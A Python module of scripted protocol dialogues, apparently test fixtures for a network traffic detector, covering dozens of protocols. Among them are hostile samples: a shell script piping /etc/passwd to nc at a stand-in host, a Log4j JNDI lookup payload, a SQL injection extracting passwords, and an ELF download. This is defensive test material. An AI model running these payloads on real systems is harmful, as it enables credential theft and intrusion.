# SPDX-License-Identifier: Apache-2.0
"""Short dialogues in known protocols' own words: lists of (who, octets) pairs."""

import struct

from payloads import noise
from talk import CLIENT, MS, SERVER, Tcp
from wire import be16, be32, packed

CLIENT_SAYS, SERVER_SAYS = 0, 1


def ber(tag, *parts):
    """ASN.1 BER with a definite length (X.690 §8.1)."""
    body = b"".join(parts)
    size = len(body)
    length = bytes([size]) if size < 128 else b"\x82" + be16(size)
    return bytes([tag]) + length + body


def lines(*pairs):
    """(who, text) pairs as CRLF-terminated lines."""
    return [(who, text.encode() + b"\r\n") for who, text in pairs]


def dialogue(*texts, first=SERVER_SAYS):
    """Lines in turn."""
    return lines(*((first ^ (i & 1), text) for i, text in enumerate(texts)))


# --- text -----------------------------------------------------------------------------------

FTP = dialogue("220 probe FTP server ready", "USER admin", "331 Password required for admin",
               "PASS secret", "230 User admin logged in", "SYST", "215 UNIX Type: L8", "QUIT",
               "221 Goodbye")
SMTP_AUTH = dialogue("220 mail.example ESMTP", "EHLO probe.example", "250 AUTH PLAIN",
                     "AUTH PLAIN AGFkbWluAHNlY3JldA==", "235 2.7.0 Authentication successful",
                     "MAIL FROM:<a@probe.example>", "250 2.1.0 Ok", "QUIT", "221 2.0.0 Bye")
POP3 = dialogue("+OK POP3 ready", "USER admin", "+OK", "PASS secret", "+OK 0 messages", "QUIT",
                "+OK")
IMAP = dialogue("* OK IMAP4rev1 ready", "a1 LOGIN admin secret", "a1 OK LOGIN completed",
                "a2 LOGOUT", "* BYE logging out")
IRC = dialogue("NICK probe", ":irc.example NOTICE * :*** Looking up your hostname",
               "USER probe 0 * :probe", ":irc.example 001 probe :Welcome", first=CLIENT_SAYS)
OLD_SSH = [(SERVER_SAYS, b"SSH-1.99-OpenSSH_3.4\n"), (CLIENT_SAYS, b"SSH-2.0-OpenSSH_3.9\n")]
REDIS = [(CLIENT_SAYS, b"*1\r\n$4\r\nPING\r\n"), (SERVER_SAYS, b"+PONG\r\n"),
         (CLIENT_SAYS, b"*2\r\n$3\r\nGET\r\n$5\r\nprobe\r\n"), (SERVER_SAYS, b"$2\r\nup\r\n")]
SHELL = [(SERVER_SAYS, b"#!/bin/sh\nuname -a\nid\ncat /etc/passwd | nc 192.0.2.10 4444\n"),
         (CLIENT_SAYS, b"Linux probe 5.10.0 x86_64\nuid=0(root) gid=0(root)\n")]
SIP_FIELDS = (b"Via: SIP/2.0/UDP 192.0.2.10:50155;branch=z9hG4bK7\r\n"
              b"From: <sip:7@probe.example>;tag=1\r\nTo: <sip:7@probe.example>\r\n"
              b"Call-ID: 7@192.0.2.10\r\nCSeq: 1 REGISTER\r\nContent-Length: 0\r\n\r\n")
SIP = [(CLIENT_SAYS, b"REGISTER sip:probe.example SIP/2.0\r\nMax-Forwards: 70\r\n" + SIP_FIELDS),
       (SERVER_SAYS, b"SIP/2.0 200 OK\r\n" + SIP_FIELDS)]
SYSLOG = [(CLIENT_SAYS, b"<134>1 2026-01-05T09:00:00Z probe7 probed 412 - - link %d is up" % i)
          for i in range(3)]


# --- HTTP -----------------------------------------------------------------------------------


def request(target, method="GET", host="probe.example", agent="curl/7.88.1", more=""):
    text = (f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n"
            f"{more}\r\n")
    return text.encode()


def response(body=b"up\n", kind="text/plain"):
    head = (f"HTTP/1.1 200 OK\r\nServer: probed\r\nContent-Type: {kind}\r\n"
            f"Content-Length: {len(body)}\r\n\r\n")
    return head.encode() + body


def http(target, answer=None, **fields):
    return [(CLIENT_SAYS, request(target, **fields)), (SERVER_SAYS, answer or response())]


ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(200)
HTTP_LOG4J = http("/status", agent="${jndi:ldap://198.51.100.66/a}")
HTTP_INJECTION = http("/status?id=1'%20UNION%20SELECT%20user,password%20FROM%20users--")
HTTP_ELF = http("/update", response(ELF, "application/octet-stream"))
HTTP_PROXY = [(CLIENT_SAYS, request("intranet.example:443", "CONNECT", "intranet.example:443")),
              (SERVER_SAYS, b"HTTP/1.1 200 Connection established\r\n\r\n"),
              (CLIENT_SAYS, noise(1, 200)), (SERVER_SAYS, noise(2, 300))]
HTTP_BACKWARDS = [(SERVER_SAYS, request("/task")), (CLIENT_SAYS, response(b"done\n"))]
HTTP_UNANSWERED = [(CLIENT_SAYS, request("/status"))]
WEBSOCKET = http("/feed", b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: "
                 b"Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n",
                 more="Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                 "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n")
HTTP2 = [(CLIENT_SAYS, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"),
         (SERVER_SAYS, b"\0\0\0\x04\0\0\0\0\0" + b"\0\0\0\x04\x01\0\0\0\0")]


# --- TLS ------------------------------------------------------------------------------------


def vector(width, data):
    """A TLS vector (RFC 8446 §3.4): its length in `width` octets, then the data."""
    return len(data).to_bytes(width, "big") + data


def client_hello(name=b"probe.example"):
    def extension(kind, data):
        return be16(kind) + vector(2, data)
    extensions = b"".join((
        extension(0, vector(2, b"\0" + vector(2, name))) if name else b"",
        extension(10, vector(2, be16(0x001D) + be16(0x0017))),
        extension(13, vector(2, be16(0x0403) + be16(0x0804))),
        extension(16, vector(2, vector(1, b"h2") + vector(1, b"http/1.1"))),
        extension(43, vector(1, be16(0x0304) + be16(0x0303))),
        extension(51, vector(2, be16(0x001D) + vector(2, noise(51, 32)))),
    ))
    body = (be16(0x0303) + noise(50, 32) + vector(1, noise(52, 32))
            + vector(2, be16(0x1301) + be16(0x1302) + be16(0xC02B)) + vector(1, b"\0")
            + vector(2, extensions))
    return record(22, b"\x01" + vector(3, body))


def server_hello():
    extensions = be16(43) + vector(2, be16(0x0304)) + be16(51) + vector(
        2, be16(0x001D) + vector(2, noise(53, 32)))
    body = (be16(0x0303) + noise(54, 32) + vector(1, noise(52, 32)) + be16(0x1301) + b"\0"
            + vector(2, extensions))
    return record(22, b"\x02" + vector(3, body)) + record(20, b"\x01") + record(23, noise(55, 900))


def record(kind, fragment, version=0x0303):
    return bytes([kind]) + be16(version) + vector(2, fragment)


TLS = [(CLIENT_SAYS, client_hello()), (SERVER_SAYS, server_hello()),
       (CLIENT_SAYS, record(20, b"\x01") + record(23, noise(56, 53))),
       (CLIENT_SAYS, record(23, noise(57, 120))), (SERVER_SAYS, record(23, noise(58, 700)))]
TLS_WITHOUT_NAME = [(CLIENT_SAYS, client_hello(b"")), *TLS[1:]]
TLS_REFUSED = [TLS[0], (SERVER_SAYS, record(21, b"\x02\x28"))]


# --- binary over TCP ------------------------------------------------------------------------

BITTORRENT_HELLO = b"\x13BitTorrent protocol" + bytes(8) + b"A" * 20 + b"-TR2940-abcdefghijkl"
BITTORRENT = [(CLIENT_SAYS, BITTORRENT_HELLO), (SERVER_SAYS, BITTORRENT_HELLO)]
RDP = [(CLIENT_SAYS, bytes.fromhex("0300 0013 0ee0 0000 0000 0001 0008 0003 0000 00")),
       (SERVER_SAYS, bytes.fromhex("0300 0013 0ed0 0000 1234 0002 0008 0002 0000 00"))]
TELNET = [(SERVER_SAYS, bytes.fromhex("fffd18 fffd20 fffd23 fffd27")),
          (CLIENT_SAYS, bytes.fromhex("fffb18 fffc20 fffc23 fffc27")),
          (SERVER_SAYS, bytes.fromhex("fffa1801fff0") + b"\r\nprobe login: "),
          (CLIENT_SAYS, b"admin\r\n"), (SERVER_SAYS, b"Password: "), (CLIENT_SAYS, b"secret\r\n"),
          (SERVER_SAYS, b"\r\nprobe$ ")]
VNC = [(SERVER_SAYS, b"RFB 003.008\n"), (CLIENT_SAYS, b"RFB 003.008\n"), (SERVER_SAYS, b"\x01\x02"),
       (CLIENT_SAYS, b"\x02"), (SERVER_SAYS, noise(3, 16)), (CLIENT_SAYS, noise(4, 16)),
       (SERVER_SAYS, be32(0))]
SOCKS5 = [(CLIENT_SAYS, b"\x05\x01\x00"), (SERVER_SAYS, b"\x05\x00"),
          (CLIENT_SAYS, b"\x05\x01\x00\x03\x10intranet.example" + be16(443)),
          (SERVER_SAYS, b"\x05\x00\x00\x01" + packed("198.51.100.20") + be16(50000)),
          (CLIENT_SAYS, noise(5, 200))]
MODBUS = [message for i in range(3) for message in (
    (CLIENT_SAYS, be16(i) + be16(0) + be16(6) + b"\x01\x03" + be16(0x10) + be16(2)),
    (SERVER_SAYS, be16(i) + be16(0) + be16(7) + b"\x01\x03\x04" + be16(7) + be16(8)))]
MQTT_CONNECT = vector(2, b"MQTT") + b"\x04\x02" + be16(60) + vector(2, b"probe7")
MQTT = [(CLIENT_SAYS, b"\x10" + vector(1, MQTT_CONNECT)), (SERVER_SAYS, b"\x20\x02\0\0"),
        (CLIENT_SAYS, b"\x30\x0c" + vector(2, b"probe/7") + b"up\n"), (CLIENT_SAYS, b"\xc0\0"),
        (SERVER_SAYS, b"\xd0\0")]
MYSQL_HELLO = (b"\x0a8.0.36\0" + struct.pack("<I", 412) + noise(6, 8)
               + bytes.fromhex("00 fff7 ff 0200 ffdf 15") + bytes(10)
               + b"abcdefghijkl\0caching_sha2_password\0")
MYSQL = [(SERVER_SAYS, struct.pack("<I", len(MYSQL_HELLO)) + MYSQL_HELLO)]
LDAP_BIND = ber(0x60, ber(2, b"\3"), ber(4, b"cn=admin,dc=example"), ber(0x80, b"secret"))
LDAP = [(CLIENT_SAYS, ber(0x30, ber(2, b"\1"), LDAP_BIND)),
        (SERVER_SAYS, ber(0x30, ber(2, b"\1"), ber(0x61, ber(10, b"\0"), ber(4), ber(4))))]


def kerberos_request():
    """AS-REQ (RFC 4120 §5.4.1)."""
    def name(kind, *parts):
        listed = ber(0x30, *(ber(0x1B, part) for part in parts))
        return ber(0x30, ber(0xA0, ber(2, bytes([kind]))), ber(0xA1, listed))
    realm = b"PROBE.EXAMPLE"
    body = ber(0x30, ber(0xA0, ber(3, b"\0\x40\x80\0\0")), ber(0xA1, name(1, b"probe")),
               ber(0xA2, ber(0x1B, realm)), ber(0xA3, name(2, b"krbtgt", realm)),
               ber(0xA5, ber(0x18, b"20260106090000Z")), ber(0xA7, ber(2, b"\x12\x34\x56\x78")),
               ber(0xA8, ber(0x30, ber(2, b"\x12"), ber(2, b"\x11"))))
    version, kind = ber(0xA1, ber(2, b"\5")), ber(0xA2, ber(2, b"\x0a"))
    return vector(4, ber(0x6A, ber(0x30, version, kind, ber(0xA4, body))))


def kerberos_error():
    """KRB-ERROR 25, pre-authentication required (RFC 4120 §5.9.1)."""
    name = ber(0x30, ber(0xA0, ber(2, b"\2")), ber(0xA1, ber(0x30, ber(0x1B, b"krbtgt"))))
    message = ber(0x7E, ber(0x30, ber(0xA0, ber(2, b"\5")), ber(0xA1, ber(2, b"\x1e")),
                            ber(0xA4, ber(0x18, b"20260105090000Z")), ber(0xA5, ber(2, b"\0")),
                            ber(0xA6, ber(2, b"\x19")), ber(0xA9, ber(0x1B, b"PROBE.EXAMPLE")),
                            ber(0xAA, name)))
    return vector(4, message)


KERBEROS = [(CLIENT_SAYS, kerberos_request()), (SERVER_SAYS, kerberos_error())]


# --- binary over UDP ------------------------------------------------------------------------


def ntp(mode, stratum):
    head = bytes([0x20 | mode, stratum, 6, 0xEC]) + be32(0x100) + be32(0x200)
    return head + b"GPS\0" + noise(mode, 32)


def stun(kind, attributes=b""):
    return be16(kind) + be16(len(attributes)) + be32(0x2112A442) + noise(7, 12) + attributes


def dns_header(flags, answers=0, questions=1):
    return be16(0x3950) + be16(flags) + be16(questions) + be16(answers) + bytes(4)


def netbios_name(name):
    """The first-level encoding of RFC 1001 §14.1."""
    octets = name.ljust(15).encode() + b"\0"
    halves = (half for octet in octets for half in (octet >> 4, octet & 15))
    return b"\x20" + bytes(0x41 + half for half in halves) + b"\0"


def radius(code, attributes):
    return bytes([code, 7]) + be16(20 + len(attributes)) + noise(8, 16) + attributes


def snmp(version, tag, *fields):
    variable = ber(0x30, ber(6, b"\x2b\x06\x01\x02\x01\x01\x05\0"), ber(5))
    pdu = ber(tag, *fields, ber(0x30, variable))
    return ber(0x30, ber(2, bytes([version])), ber(4, b"public"), pdu)


def dhcp(operation, kind, offered="0.0.0.0"):
    head = bytes([operation, 1, 6, 0]) + be32(0x39503950) + bytes(8) + packed(offered) + bytes(8)
    rest = bytes.fromhex("02 00 c0 00 02 0a") + bytes(10 + 192) + bytes.fromhex("63 82 53 63")
    wanted = bytes.fromhex("37 03 01 03 06" if operation == 1 else "01 04 ff ff ff 00")
    return head + rest + bytes([53, 1, kind]) + wanted + b"\xff"


NTP = [(CLIENT_SAYS, ntp(3, 0)), (SERVER_SAYS, ntp(4, 1))]
STUN = [(CLIENT_SAYS, stun(0x0001)),
        (SERVER_SAYS, stun(0x0101, be16(0x0020) + be16(8) + b"\0\x01" + noise(9, 6)))]
QUESTION = b"\x05probe\x07example\0" + be16(1) + be16(1)
DNS = [(CLIENT_SAYS, dns_header(0x0100) + QUESTION),
       (SERVER_SAYS, dns_header(0x8180, 1) + QUESTION + be16(0xC00C) + be16(1) + be16(1) + be32(300)
        + vector(2, packed("198.51.100.30")))]
NETBIOS_QUESTION = netbios_name("PROBE7") + be16(0x20) + be16(1)
NETBIOS = [(CLIENT_SAYS, dns_header(0x0110) + NETBIOS_QUESTION),
           (SERVER_SAYS, dns_header(0x8500, 1, questions=0) + NETBIOS_QUESTION + be32(300)
            + vector(2, be16(0) + packed("198.51.100.30")))]
RADIUS_LOGIN = b"\x01\x07admin\x02\x12" + noise(10, 16) + b"\x04\x06\xc0\0\x02\x0a"
RADIUS = [(CLIENT_SAYS, radius(1, RADIUS_LOGIN)), (SERVER_SAYS, radius(2, b"\x12\x07hello"))]
SNMP_GET = [(CLIENT_SAYS, snmp(1, 0xA0, ber(2, b"\7"), ber(2, b"\0"), ber(2, b"\0"))),
            (SERVER_SAYS, snmp(1, 0xA2, ber(2, b"\7"), ber(2, b"\0"), ber(2, b"\0")))]
SNMP_TRAP = [(CLIENT_SAYS, snmp(1, 0xA7, ber(2, bytes([i])), ber(2, b"\0"), ber(2, b"\0")))
             for i in range(1, 4)]
TFTP = [(CLIENT_SAYS, be16(1) + b"probe.conf\0octet\0"),
        (SERVER_SAYS, be16(3) + be16(1) + b"mode=normal\n"), (CLIENT_SAYS, be16(4) + be16(1))]
DHCP = [(CLIENT_SAYS, dhcp(1, 1)), (SERVER_SAYS, dhcp(2, 2, "192.0.2.77"))]
WIREGUARD = [(CLIENT_SAYS, struct.pack("<II", 1, 7) + noise(11, 124) + bytes(16)),
             (SERVER_SAYS, struct.pack("<III", 2, 8, 7) + noise(12, 64) + bytes(16)),
             (CLIENT_SAYS, struct.pack("<IIQ", 4, 8, 0) + noise(13, 96))]
RTP = [(i % 2, struct.pack(">BBHII", 0x80, 0, 500 + i // 2, 160 * (i // 2), 0x3950 + i % 2)
        + noise(14 + i, 160)) for i in range(12)]


def perform(kind, port, script, client=CLIENT):
    talk = kind((client, 50000 + port), (SERVER, port))
    if kind is Tcp:
        talk.open()
    for who, data in script:
        talk.say(who, data).wait(20 * MS)
    return talk.close() if kind is Tcp else talk
